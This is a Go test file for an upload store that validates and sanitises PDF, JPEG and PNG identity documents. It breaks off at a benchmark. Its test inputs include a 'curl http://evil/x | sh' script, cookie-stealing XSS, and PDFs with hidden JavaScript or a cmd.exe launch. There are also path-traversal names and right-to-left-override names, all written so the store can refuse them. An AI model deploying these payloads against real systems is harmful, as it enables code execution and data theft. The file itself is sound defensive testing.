package document

import (
	"bytes"
	"compress/zlib"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/iotest"

	"github.com/etalase-id/etalase/internal/apperr"
)

// ---- test material -------------------------------------------------------

// buildPDF writes a small PDF by hand, with a correct cross-reference table:
// objs are the bodies of objects 1, 2, ...; trailer is added to the trailer
// dictionary; tail is appended after %%EOF.
func buildPDF(objs []string, trailer, tail string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, trailer, xref)
	b.WriteString(tail)
	return b.Bytes()
}

func streamObj(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func zlibBytes(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// pdfObjs is a one-page PDF saying "KTP"; catalog is added to the catalog
// dictionary, extra objects follow as objects 6, 7...
func pdfObjs(catalog string, extra ...string) []string {
	return append([]string{
		"<< /Type /Catalog /Pages 2 0 R" + catalog + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		streamObj("", []byte("BT /F1 24 Tf 72 720 Td (KTP 3578010101900001) Tj ET")),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}, extra...)
}

var minimalPDF = buildPDF(pdfObjs(""), "", "")

// photo returns a w×h image with gradients and some texture, like a photo.
func photo(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	seed := uint32(1)
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			seed = seed*1664525 + 1013904223
			n := uint8(seed >> 27) // 0–31 of noise
			copy(img.Pix[img.PixOffset(x, y):], []uint8{uint8(x*255/w) ^ n, uint8(y*255/h) + n, uint8((x+y)*127/(w+h)) + n, 255})
		}
	}
	return img
}

func encodeJPEG(t testing.TB, img image.Image, q int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: q}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func encodePNG(t testing.TB, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withEXIF inserts, after the JPEG's SOI, an APP1 Exif segment holding an
// Orientation and a Make text (standing in for the GPS position a phone records).
func withEXIF(jpg []byte, orientation uint16, text string) []byte {
	le := binary.LittleEndian
	var t bytes.Buffer
	t.WriteString("II")
	binary.Write(&t, le, uint16(42))
	binary.Write(&t, le, uint32(8))
	binary.Write(&t, le, uint16(2))                                       // entries
	binary.Write(&t, le, []uint16{0x010F, 2})                             // Make, ASCII
	binary.Write(&t, le, []uint32{uint32(len(text) + 1), 8 + 2 + 24 + 4}) // count, offset
	binary.Write(&t, le, []uint16{0x0112, 3})                             // Orientation, SHORT
	binary.Write(&t, le, []uint32{1})
	binary.Write(&t, le, []uint16{orientation, 0})
	binary.Write(&t, le, uint32(0)) // no next IFD
	t.WriteString(text)
	t.WriteByte(0)
	seg := append([]byte("Exif\x00\x00"), t.Bytes()...)
	out := []byte{0xFF, 0xD8, 0xFF, 0xE1, byte((len(seg) + 2) >> 8), byte(len(seg) + 2)}
	out = append(out, seg...)
	return append(out, jpg[2:]...)
}

// pngClaiming is a PNG whose header claims w×h pixels (with a valid CRC) but
// whose pixel data is that of a 1×1 image.
func pngClaiming(t testing.TB, w, h uint32) []byte {
	b := encodePNG(t, image.NewGray(image.Rect(0, 0, 1, 1)))
	ihdr := b[8:] // length, "IHDR", 13 bytes of data, CRC
	binary.BigEndian.PutUint32(ihdr[8:], w)
	binary.BigEndian.PutUint32(ihdr[12:], h)
	binary.BigEndian.PutUint32(ihdr[21:], crc32.ChecksumIEEE(ihdr[4:21]))
	return b
}

func newStore(t testing.TB, max int64) *Store {
	t.Helper()
	s, err := NewStore(filepath.Join(t.TempDir(), "documents"), max)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// countFiles counts what is on disk under root, other than directories.
func countFiles(t testing.TB, root string) int {
	t.Helper()
	n := 0
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			n++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func readStored(t testing.TB, s *Store, key string) []byte {
	t.Helper()
	f, err := s.Open(key)
	if err != nil {
		t.Fatalf("Open(%q): %v", key, err)
	}
	defer f.Close()
	b, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func code(err error) string {
	if e, ok := apperr.As(err); ok {
		return e.Code
	}
	return fmt.Sprintf("not an apperr: %v", err)
}

// ---- tests ---------------------------------------------------------------

func TestUploadsAreAcceptedByContentAndRefusedWithAReasonOtherwise(t *testing.T) {
	jpg := encodeJPEG(t, photo(64, 48), 90)
	pngb := encodePNG(t, photo(64, 48))
	cases := []struct {
		name     string
		data     []byte
		filename string
		want     string // content type when accepted, else the error code
	}{
		{"a small real PDF", minimalPDF, "NIB.pdf", TypePDF},
		{"a JPEG photo", jpg, "foto produk.jpg", TypeJPEG},
		{"a PNG image", pngb, "sertifikat.png", TypePNG},
		{"a JPEG named .pdf is still a JPEG", jpg, "ktp.pdf", TypeJPEG},
		{"a JPEG with HTML appended (re-encoded away)", append(bytes.Clone(jpg), "<html><script>alert(1)</script></html>"...), "ktp.jpg", TypeJPEG},
		{"a PNG with a zip appended (re-encoded away)", append(bytes.Clone(pngb), "PK\x03\x04payload"...), "a.png", TypePNG},
		{"a JPEG with EXIF", withEXIF(jpg, 1, "GPS -7.2575 112.7521"), "IMG_0001.jpg", TypeJPEG},
		{"a PDF whose font subset name starts with JS", buildPDF(pdfObjs("", "<< /Type /Font /Subtype /TrueType /BaseFont /JSKDLE+Arial >>"), "", ""), "a.pdf", TypePDF},
		{"a PDF whose image data happens to hold /JS", buildPDF(pdfObjs("", streamObj("/Type /XObject /Subtype /Image /Filter /DCTDecode", []byte("\x00\x01/JS \xff\xfe"))), "", ""), "a.pdf", TypePDF},
		{"a PDF with a link", buildPDF(pdfObjs("", "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://oss.go.id/) >> >>"), "", ""), "a.pdf", TypePDF},
		{"a PDF with trailing whitespace after %%EOF", append(bytes.Clone(minimalPDF), "\r\n\r\n"...), "a.pdf", TypePDF},
		{"a PDF with a clear-text compressed object stream", buildPDF(pdfObjs("", streamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlibBytes([]byte("7 0 << /Type /Annot /Subtype /Link >>")))), "", ""), "a.pdf", TypePDF},
		{"an encrypted PDF without object streams", buildPDF(pdfObjs("", "<< /Filter /Standard /V 1 /R 2 /P -4 >>"), " /Encrypt 6 0 R", ""), "a.pdf", TypePDF},

		{"an empty file", nil, "ktp.pdf", "document.empty"},
		{"an HTML page renamed .pdf", []byte("<!DOCTYPE html><html><body>KTP</body></html>"), "ktp.pdf", "document.type"},
		{"a shell script", []byte("#!/bin/sh\ncurl http://evil/x | sh\n"), "foto.jpg", "document.type"},
		{"a script named .pdf", []byte("<script>alert(document.cookie)</script>"), "ktp.pdf", "document.type"},
		{"an SVG named .png", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "a.png", "document.type"},
		{"a GIF", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "a.gif", "document.type"},
		{"a PDF with a leading byte", append([]byte(" "), minimalPDF...), "a.pdf", "document.type"},
		{"a PDF with <script> appended (polyglot)", append(bytes.Clone(minimalPDF), "<script>alert(1)</script>"...), "a.pdf", "document.unsafe"},
		{"a PDF with HTML in its first bytes", append([]byte("%PDF-1.4\n%<html><body>\n"), minimalPDF[9:]...), "a.pdf", "document.unsafe"},
		{"a PDF with <SVG in capitals", append(bytes.Clone(minimalPDF), "<SVG onload=alert(1)>"...), "a.pdf", "document.unsafe"},
		{"a PDF running JavaScript when opened", buildPDF(pdfObjs(" /OpenAction 6 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF with JavaScript behind #-escaped names", buildPDF(pdfObjs(" /OpenAction 6 0 R", "<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF hiding a script behind a fake stream in a comment", buildPDF(pdfObjs(" /OpenAction 6 0 R", "% >>stream\n<< /S /J#61vaScript /J#53 (app.alert(1)) >> % endstream"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF with a bare /JS", buildPDF(pdfObjs(" /AA << /O << /JS (app.alert(1)) >> >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF opening a web page by itself", buildPDF(pdfObjs(" /OpenAction << /S /URI /URI (https://oss.go.id/) >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF launching a program", buildPDF(pdfObjs(" /OpenAction << /S /Launch /F (cmd.exe) >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF carrying an attached file", buildPDF(pdfObjs(" /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>"), "", ""), "a.pdf", "document.unsafe"},
		{"a PDF hiding a script in a compressed object stream", buildPDF(pdfObjs(" /OpenAction 7 0 R", streamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlibBytes([]byte("7 0 << /S /JavaScript /JS (app.alert(1)) >>")))), "", ""), "a.pdf", "document.unsafe"},
		{"an encrypted PDF whose object streams cannot be checked", buildPDF(pdfObjs("", streamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", []byte("\x93\x11\xa7 encrypted bytes \x02")), "<< /Filter /Standard /V 1 /R 2 /P -4 >>"), " /Encrypt 7 0 R", ""), "a.pdf", "document.encrypted"},
		{"a PDF cut off before %%EOF", minimalPDF[:len(minimalPDF)/2], "a.pdf", "document.damaged"},
		{"a PDF with %%EOF far from the end", append(bytes.Clone(minimalPDF), bytes.Repeat([]byte("x"), 2000)...), "a.pdf", "document.damaged"},
		{"a PDF with a stream that never ends", buildPDF(pdfObjs("", "<< /Length 9999 >>\nstream\nabc"), "", ""), "a.pdf", "document.damaged"},
		{"a truncated PNG", pngb[:len(pngb)/2], "a.png", "document.damaged"},
		{"a truncated JPEG", jpg[:len(jpg)/2], "a.jpg", "document.damaged"},
		{"a JPEG signature and nothing else", []byte{0xFF, 0xD8, 0xFF, 0xE0}, "a.jpg", "document.damaged"},
		{"a PNG claiming 20000×1 pixels", pngClaiming(t, 20000, 1), "a.png", "document.dimensions"},
		{"a PNG claiming 7000×7000 pixels (49 MP)", pngClaiming(t, 7000, 7000), "a.png", "document.dimensions"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newStore(t, 0)
			got, err := s.Put(bytes.NewReader(c.data), c.filename)
			if !strings.HasPrefix(c.want, "document.") {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if got.ContentType != c.want {
					t.Errorf("content type %q, want %q", got.ContentType, c.want)
				}
				b := readStored(t, s, got.Key)
				sum := sha256.Sum256(b)
				if hex.EncodeToString(sum[:]) != got.SHA256 || int64(len(b)) != got.Size {
					t.Errorf("stored %d bytes with SHA %x; Put said %d, %s", len(b), sum, got.Size, got.SHA256)
				}
				return
			}
			if code(err) != c.want {
				t.Fatalf("error %v, want %s", err, c.want)
			}
			if !apperr.IsKind(err, apperr.Invalid) {
				t.Errorf("kind of %v is not Invalid", err)
			}
			if e, _ := apperr.As(err); e.Text.ID == "" || e.Text.EN == "" {
				t.Errorf("%s has no text in both languages", e.Code)
			}
			if n := countFiles(t, s.Root); n != 0 {
				t.Errorf("%d files left on disk after a refusal", n)
			}
		})
	}
}

func TestTheWrongTypeMessageSaysWhatToUpload(t *testing.T) {
	_, err := newStore(t, 0).Put(strings.NewReader("hello"), "a.txt")
	e, _ := apperr.As(err)
	if e.Text.ID != "Unggah PDF, JPG atau PNG. Berkas ini bukan salah satunya." ||
		e.Text.EN != "Upload a PDF, JPG or PNG. This file is none of those." {
		t.Errorf("text %+v", e.Text)
	}
}

func TestAPDFIsStoredExactlyAsUploaded(t *testing.T) {
	s := newStore(t, 0)
	got, err := s.Put(bytes.NewReader(minimalPDF), "NIB 1234.pdf")
	if err != nil {
		t.Fatal(err)
	}
	if b := readStored(t, s, got.Key); !bytes.Equal(b, minimalPDF) {
		t.Error("stored bytes differ from the upload")
	}
	sum := sha256.Sum256(minimalPDF)
	if got.SHA256 != hex.EncodeToString(sum[:]) || got.Size != int64(len(minimalPDF)) || got.OriginalName != "NIB 1234.pdf" {
		t.Errorf("%+v", got)
	}
}

func TestAppendedHTMLIsNotInTheStoredImage(t *testing.T) {
	s := newStore(t, 0)
	payload := "<html><script>fetch('/api/v1/applicants').then(r=>r.text())</script></html>"
	for name, img := range map[string][]byte{
		"a.jpg": encodeJPEG(t, photo(40, 30), 90),
		"a.png": encodePNG(t, photo(40, 30)),
	} {
		got, err := s.Put(bytes.NewReader(append(img, payload...)), name)
		if err != nil {
			t.Fatal(name, err)
		}
		if b := readStored(t, s, got.Key); bytes.Contains(b, []byte("<html")) || bytes.Contains(b, []byte("script")) {
			t.Errorf("%s: the stored copy still carries the appended HTML", name)
		}
	}
}

func TestAPhoneStoredPhotoLosesItsEXIFButKeepsItsOrientation(t *testing.T) {
	// 32×16, left half red, right half blue; EXIF orientation 6 says "turn 90°
	// clockwise to view", so upright it is 16×32 with red on top.
	src := image.NewRGBA(image.Rect(0, 0, 32, 16))
	for y := 0; y < 16; y++ {
		for x := 0; x < 32; x++ {
			c := color.RGBA{0, 0, 255, 255}
			if x < 16 {
				c = color.RGBA{255, 0, 0, 255}
			}
			src.Set(x, y, c)
		}
	}
	s := newStore(t, 0)
	got, err := s.Put(bytes.NewReader(withEXIF(encodeJPEG(t, src, 95), 6, "GPS -7.2575 112.7521")), "IMG_20260301.jpg")
	if err != nil {
		t.Fatal(err)
	}
	b := readStored(t, s, got.Key)
	if bytes.Contains(b, []byte("Exif")) || bytes.Contains(b, []byte("112.7521")) {
		t.Error("the stored copy still holds the EXIF block")
	}
	img, err := jpeg.Decode(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if img.Bounds().Dx() != 16 || img.Bounds().Dy() != 32 {
		t.Fatalf("stored %v, want 16×32 (turned upright)", img.Bounds())
	}
	red := func(x, y int) bool { r, _, bl, _ := img.At(x, y).RGBA(); return r > 0xC000 && bl < 0x4000 }
	blue := func(x, y int) bool { r, _, bl, _ := img.At(x, y).RGBA(); return bl > 0xC000 && r < 0x4000 }
	if !red(8, 4) || !blue(8, 28) {
		t.Error("the photo was not turned the way its EXIF orientation says")
	}
}

func TestEveryEXIFOrientationTurnsTheImageUpright(t *testing.T) {
	// A 3×2 image with distinct pixels; each orientation's stored pixels are
	// compared with the upright image (orientation 1), which orient must rebuild.
	upright := image.NewRGBA(image.Rect(0, 0, 3, 2))
	for i := range upright.Pix {
		upright.Pix[i] = uint8(i * 10)
	}
	// Where the camera stored each upright pixel (x, y), read from the EXIF
	// specification's wording ("the 0th row is the visual right-hand side, the
	// 0th column the visual top" for 6, and so on), independently of orient.
	stored := map[int]func(x, y int) (int, int){
		2: func(x, y int) (int, int) { return 2 - x, y },
		3: func(x, y int) (int, int) { return 2 - x, 1 - y },
		4: func(x, y int) (int, int) { return x, 1 - y },
		5: func(x, y int) (int, int) { return y, x },
		6: func(x, y int) (int, int) { return y, 2 - x },
		7: func(x, y int) (int, int) { return 1 - y, 2 - x },
		8: func(x, y int) (int, int) { return 1 - y, x },
	}
	for o, pos := range stored {
		w, h := 3, 2
		if o >= 5 {
			w, h = 2, 3
		}
		raw := image.NewRGBA(image.Rect(0, 0, w, h))
		for y := 0; y < 2; y++ {
			for x := 0; x < 3; x++ {
				sx, sy := pos(x, y)
				raw.Set(sx, sy, upright.At(x, y))
			}
		}
		got := orient(raw, o).(*image.RGBA)
		if !bytes.Equal(got.Pix, upright.Pix) || got.Rect != upright.Rect {
			t.Errorf("orientation %d: got %v %v, want %v %v", o, got.Rect, got.Pix, upright.Rect, upright.Pix)
		}
	}
}

func TestTooLargeFilesAreRefusedSayingTheLimitInMB(t *testing.T) {
	s := newStore(t, 0)
	big := make([]byte, DefaultMaxBytes+1)
	copy(big, minimalPDF)
	_, err := s.Put(bytes.NewReader(big), "scan.pdf")
	e, ok := apperr.As(err)
	if !ok || e.Code != "document.too_large" || !strings.Contains(e.Text.ID, "5 MB") || !strings.Contains(e.Text.EN, "5 MB") {
		t.Fatalf("%v %+v", err, e)
	}
	if n := countFiles(t, s.Root); n != 0 {
		t.Errorf("%d files left", n)
	}

	_, err = newStore(t, 5<<19).Put(bytes.NewReader(big), "scan.pdf")
	if e, _ := apperr.As(err); !strings.Contains(e.Text.ID, "2,5 MB") || !strings.Contains(e.Text.EN, "2.5 MB") {
		t.Errorf("2.5 MB limit: %+v", e.Text)
	}

	// A body cut by http.MaxBytesReader is "too large" too, not a server error.
	_, err = s.Put(http.MaxBytesReader(nil, io.NopCloser(bytes.NewReader(big)), 1000), "scan.pdf")
	if code(err) != "document.too_large" {
		t.Errorf("MaxBytesReader: %v", err)
	}
}

func TestAFileOfExactlyMaxBytesIsAccepted(t *testing.T) {
	const max = 4096
	s := newStore(t, max)
	pad := max - len(minimalPDF) - len("%\n")
	pdf := append([]byte("%PDF-1.4\n%"+strings.Repeat("a", pad)+"\n"), minimalPDF[len("%PDF-1.4\n"):]...)
	if len(pdf) != max {
		t.Fatalf("built %d bytes", len(pdf))
	}
	if _, err := s.Put(bytes.NewReader(pdf), "a.pdf"); err != nil {
		t.Fatalf("exactly MaxBytes: %v", err)
	}
	if _, err := s.Put(bytes.NewReader(append(pdf, ' ')), "a.pdf"); code(err) != "document.too_large" {
		t.Fatalf("MaxBytes+1: %v", err)
	}
}

func TestAFailingUploadStoresNothing(t *testing.T) {
	s := newStore(t, 0)
	r := io.MultiReader(bytes.NewReader(minimalPDF[:100]), iotest.ErrReader(errors.New("connection reset")))
	_, err := s.Put(r, "a.pdf")
	if err == nil || apperr.IsKind(err, apperr.Invalid) {
		t.Fatalf("want an internal error, got %v", err)
	}
	if n := countFiles(t, s.Root); n != 0 {
		t.Errorf("%d files left", n)
	}
}

func TestFileNamesWithPathsOrControlCharactersAreRefused(t *testing.T) {
	for _, name := range []string{
		"../../etc/passwd.pdf", "a/b.pdf", `a\b.pdf`, `C:\Users\Budi\ktp.pdf`, "..",
		"sertifikat..pdf", "ktp\x00.pdf", "ktp\n.pdf", "ktp\r.pdf", "ktp\t.pdf", "ktp\x7f.pdf",
		"ktp\u202egpj.exe", // right-to-left override: shows as "ktpexe.jpg"
		"ktp\u200b.pdf",    // zero-width space
	} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			s := newStore(t, 0)
			_, err := s.Put(bytes.NewReader(minimalPDF), name)
			e, ok := apperr.As(err)
			if !ok || e.Code != "document.name" || e.Kind != apperr.Invalid || !strings.Contains(e.Text.EN, "Rename the file") {
				t.Fatalf("got %v", err)
			}
			if n := countFiles(t, s.Root); n != 0 {
				t.Errorf("%d files left", n)
			}
		})
	}
}

func TestOrdinaryFileNamesAreKeptForDisplay(t *testing.T) {
	s := newStore(t, 0)
	for name, want := range map[string]string{
		"":                     "dokumen",
		"KTP Budi Santoso.pdf": "KTP Budi Santoso.pdf",
		"Sertifikat Halal – Keripik Tempe (2026).pdf": "Sertifikat Halal – Keripik Tempe (2026).pdf",
		".pdf":                            "pdf",
		"foto\u00a0produk.pdf":            "foto produk.pdf",
		strings.Repeat("a", 200) + ".pdf": strings.Repeat("a", 116) + ".pdf",
	} {
		got, err := s.Put(bytes.NewReader(minimalPDF), name)
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		if got.OriginalName != want {
			t.Errorf("%q kept as %q, want %q", name, got.OriginalName, want)
		}
	}
}

func TestSafeNameNeutralisesWhatItIsGiven(t *testing.T) {
	for in, want := range map[string]string{
		"../../etc/passwd":                "passwd",
		`C:\Users\Budi\KTP.jpg`:           "KTP.jpg",
		"a/b/../c.pdf":                    "c.pdf",
		"ktp\x00\n.pdf":                   "ktp.pdf",
		"ktp..pdf":                        "ktp.pdf",
		"ktp.....pdf":                     "ktp.pdf",
		"...":                             "dokumen",
		"..":                              "dokumen",
		"":                                "dokumen",
		"   ":                             "dokumen",
		"/":                               "dokumen",
		".htaccess":                       "htaccess",
		"ktp\u202egpj.exe":                "ktpgpj.exe",
		"\xff\xfeKTP.pdf":                 "KTP.pdf",
		"  foto.jpg. ":                    "foto.jpg",
		"Surat Izin Usaha Mikro.pdf":      "Surat Izin Usaha Mikro.pdf",
		"日本語の書類.pdf":                      "日本語の書類.pdf",
		strings.Repeat("é", 130):          strings.Repeat("é", 120),
		strings.Repeat("b", 125) + ".pdf": strings.Repeat("b", 116) + ".pdf",
	} {
		got := SafeName(in)
		if got != want {
			t.Errorf("SafeName(%q) = %q, want %q", in, got, want)
		}
		if len([]rune(got)) > MaxNameRunes || checkName(got) != nil {
			t.Errorf("SafeName(%q) = %q is not itself a safe name", in, got)
		}
	}
}

func TestOpenRefusesKeysThatAreNotOurs(t *testing.T) {
	s := newStore(t, 0)
	got, err := s.Put(bytes.NewReader(minimalPDF), "a.pdf")
	if err != nil {
		t.Fatal(err)
	}
	// A file outside Root, and a link to it planted inside Root under a
	// well-formed key: os.Root must not follow it out.
	secret := filepath.Join(t.TempDir(), "passwd")
	os.WriteFile(secret, []byte("root:x:0:0"), 0o600)
	planted := "0123456789abcdef0123456789abcdef"
	os.MkdirAll(filepath.Join(s.Root, "01", "23"), 0o700)
	if err := os.Symlink(secret, filepath.Join(s.Root, "01", "23", planted)); err != nil {
		t.Fatal(err)
	}
	dirKey := "fedcba9876543210fedcba9876543210"
	os.MkdirAll(filepath.Join(s.Root, "fe", "dc", dirKey), 0o700)

	for _, key := range []string{
		"../../etc/passwd", "", "..", "/etc/passwd",
		strings.ToUpper(got.Key), got.Key + "/..", got.Key[:31], got.Key + "0",
		filepath.Join(got.Key[:2], got.Key[2:4], got.Key),
		"ffffffffffffffffffffffffffffffff", // well formed, never stored
		planted, dirKey,
	} {
		f, err := s.Open(key)
		if err == nil {
			f.Close()
			t.Errorf("Open(%q) opened something", key)
			continue
		}
		if !apperr.IsKind(err, apperr.NotFound) {
			t.Errorf("Open(%q): %v, want NotFound", key, err)
		}
	}
}

func TestOpenReturnsExactlyTheStoredBytes(t *testing.T) {
	s := newStore(t, 0)
	for name, data := range map[string][]byte{
		"a.pdf": minimalPDF,
		"a.jpg": encodeJPEG(t, photo(50, 40), 80),
		"a.png": encodePNG(t, photo(50, 40)),
	} {
		got, err := s.Put(bytes.NewReader(data), name)
		if err != nil {
			t.Fatal(err)
		}
		f, err := s.Open(got.Key)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(f)
		// Seeking works, for http.ServeContent.
		if _, err := f.Seek(0, io.SeekStart); err != nil {
			t.Fatal(err)
		}
		b2, _ := io.ReadAll(f)
		f.Close()
		sum := sha256.Sum256(b)
		if hex.EncodeToString(sum[:]) != got.SHA256 || int64(len(b)) != got.Size || !bytes.Equal(b, b2) {
			t.Errorf("%s: read %d bytes SHA %x, Put said %d %s", name, len(b), sum, got.Size, got.SHA256)
		}
	}
}

func TestStoredFilesArePrivateShardedAndGeneratedlyNamed(t *testing.T) {
	s := newStore(t, 0)
	got, err := s.Put(bytes.NewReader(minimalPDF), "KTP.pdf")
	if err != nil {
		t.Fatal(err)
	}
	if !validKey(got.Key) {
		t.Fatalf("key %q", got.Key)
	}
	p := filepath.Join(s.Root, got.Key[:2], got.Key[2:4], got.Key)
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("file mode %v", fi.Mode().Perm())
	}
	for _, d := range []string{s.Root, filepath.Dir(p), filepath.Dir(filepath.Dir(p))} {
		if fi, _ := os.Stat(d); fi.Mode().Perm() != 0o700 {
			t.Errorf("%s mode %v", d, fi.Mode().Perm())
		}
	}
	if n := countFiles(t, s.Root); n != 1 {
		t.Errorf("%d files on disk, want 1 (no temporary file left)", n)
	}
}

func TestRemoveDeletesAndCanBeRepeated(t *testing.T) {
	s := newStore(t, 0)
	got, err := s.Put(bytes.NewReader(minimalPDF), "a.pdf")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Remove(got.Key); err != nil {
		t.Fatal(err)
	}
	if err := s.Remove(got.Key); err != nil {
		t.Errorf("second Remove: %v", err)
	}
	if _, err := s.Open(got.Key); !apperr.IsKind(err, apperr.NotFound) {
		t.Errorf("Open after Remove: %v", err)
	}
	if err := s.Remove("../../etc/passwd"); err == nil {
		t.Error("Remove of a foreign key succeeded")
	}
	if n := countFiles(t, s.Root); n != 0 {
		t.Errorf("%d files left", n)
	}
}

func TestConcurrentUploadsGetTheirOwnKeys(t *testing.T) {
	s := newStore(t, 0)
	jpg := encodeJPEG(t, photo(32, 32), 80)
	var mu sync.Mutex
	keys := map[string]bool{}
	var wg sync.WaitGroup
	for range 20 {
		wg.Go(func() {
			got, err := s.Put(bytes.NewReader(jpg), "a.jpg")
			if err != nil {
				t.Error(err)
				return
			}
			mu.Lock()
			keys[got.Key] = true
			mu.Unlock()
		})
	}
	wg.Wait()
	if len(keys) != 20 || countFiles(t, s.Root) != 20 {
		t.Errorf("%d keys, %d files", len(keys), countFiles(t, s.Root))
	}
}

func TestACompressionBombInAPDFIsRefused(t *testing.T) {
	bomb := zlibBytes(make([]byte, inflateBudget+1<<20))
	pdf := buildPDF(pdfObjs("", streamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)), "", "")
	_, err := newStore(t, 0).Put(bytes.NewReader(pdf), "a.pdf")
	if code(err) != "document.damaged" {
		t.Fatalf("got %v", err)
	}
}

// ---- fuzzing -------------------------------------------------------------

func FuzzPut(f *testing.F) {
	jpg := encodeJPEG(f, photo(16, 16), 80)
	pngb := encodePNG(f, photo(16, 16))
	for _, seed := range [][]byte{
		minimalPDF, jpg, pngb, withEXIF(jpg, 6, "GPS"), nil, []byte("<html>"),
		append(bytes.Clone(minimalPDF), "<script>"...), pngb[:40], jpg[:60],
		buildPDF(pdfObjs("", streamObj("/Type /ObjStm /Filter /FlateDecode", zlibBytes([]byte("<< /S /URI >>")))), "", ""),
	} {
		f.Add(seed, "a.pdf")
	}
	f.Add(minimalPDF, "../x")
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		root, err := os.MkdirTemp(t.TempDir(), "fz")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(root)
		s := &Store{Root: root, MaxBytes: 1 << 20, noSync: true}
		got, err := s.Put(bytes.NewReader(data), name)
		if err != nil {
			if !apperr.IsKind(err, apperr.Invalid) {
				t.Fatalf("refusal is not Invalid: %v", err)
			}
			if n := countFiles(t, root); n != 0 {
				t.Fatalf("%d files left after %v", n, err)
			}
			return
		}
		b := readStored(t, s, got.Key)
		sum := sha256.Sum256(b)
		if hex.EncodeToString(sum[:]) != got.SHA256 || int64(len(b)) != got.Size || got.Size == 0 {
			t.Fatalf("stored %d bytes SHA %x, Put said %+v", len(b), sum, got)
		}
		switch got.ContentType {
		case TypePDF:
			if !bytes.Equal(b, data) {
				t.Fatal("PDF not stored as uploaded")
			}
		case TypeJPEG:
			if _, err := jpeg.Decode(bytes.NewReader(b)); err != nil {
				t.Fatalf("stored JPEG does not decode: %v", err)
			}
		case TypePNG:
			if _, err := png.Decode(bytes.NewReader(b)); err != nil {
				t.Fatalf("stored PNG does not decode: %v", err)
			}
		default:
			t.Fatalf("content type %q", got.ContentType)
		}
		if checkName(got.OriginalName) != nil || len([]rune(got.OriginalName)) > MaxNameRunes {
			t.Fatalf("display name %q", got.OriginalName)
		}
	})
}

// ---- benchmarks ----------------------------------------------------------

// benchPhotos are the photos Put is measured with: a 2-megapixel one of about
// 1 MB, and a 12-megapixel one of about 4.4 MB, what a phone camera saves.
// The third is that photo taken upright: phones keep the sensor's pixels and
// record EXIF orientation 6, which Put turns.
var benchPhotos = []struct {
	name          string
	w, h, quality int
	orientation   uint16
}{
	{"2MP", 1600, 1200, 95, 1},
	{"12MP", 4000, 3000, 90, 1},
	{"12MP-portrait", 4000, 3000, 90, 6},
}

func benchPhoto(b *testing.B, w, h, quality int, orientation uint16) []byte {
	jpg := encodeJPEG(b, photo(w, h), quality)
	if orientation != 1 {
		jpg = withEXIF(jpg, orientation, "GPS -7.2575 112.7521")
	}
	b.Logf("photo: %d×%d, %d bytes", w, h, len(jpg))
	return jpg
}

// BenchmarkPutJPEG is Put of a phone photo: check, decode, re-encode, write, sync.
func BenchmarkPutJPEG(b *testing.B) {
